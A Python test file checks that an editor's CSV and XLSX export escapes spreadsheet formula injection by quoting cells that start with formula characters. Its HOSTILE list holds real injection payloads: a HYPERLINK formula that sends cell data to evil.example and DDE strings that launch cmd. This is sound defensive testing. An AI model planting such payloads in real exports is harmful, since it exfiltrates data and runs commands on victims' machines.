"""Formula injection (issue 10, item 9): names a spreadsheet would run are written as text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from editor.io.cells import FORMULA_STARTS, csv_escape, csv_row, csv_unescape, text_not_formulas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=already quoted",  # looks escaped: gets one more quote, so it reads back as it was
    "''+twice",
]
HARMLESS = ["城关镇", "Chengguan", "a=b", " =1", "'quoted", "1-2", "", "中心-东区"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_quoted_and_reads_back(text):
    cell = csv_escape(text)
    assert cell == "'" + text and not cell.startswith(FORMULA_STARTS)
    assert csv_unescape(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert csv_escape(text) == text and csv_unescape(text) == text


def test_numbers_stay_numbers():
    assert csv_row([-3, 2.5, None, "-x"]) == [-3, 2.5, "", "'-x"]


def test_csv_round_trip_through_the_csv_module():
    rows = [[t, "T1"] for t in HOSTILE + HARMLESS]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    for r in rows:
        w.writerow(csv_row(r))
    back = [[csv_unescape(c) for c in r] for r in csv.reader(io.StringIO(buf.getvalue()))]
    assert back == rows
    for r in csv.reader(io.StringIO(buf.getvalue())):
        assert not r[0].startswith(FORMULA_STARTS)  # no cell a spreadsheet would evaluate


def test_xlsx_holds_strings_never_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    for t in HOSTILE + HARMLESS:
        ws.append([t, 1])
    assert text_not_formulas(ws) == sum(t.startswith("=") for t in HOSTILE)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    back = load_workbook(path).active
    # as typed (XML reads a bare CR back as LF)
    assert [r[0].value or "" for r in back.iter_rows()] == [
        t.replace("\r", "\n") for t in HOSTILE + HARMLESS
    ]
    assert "f" not in {r[0].data_type for r in back.iter_rows()}
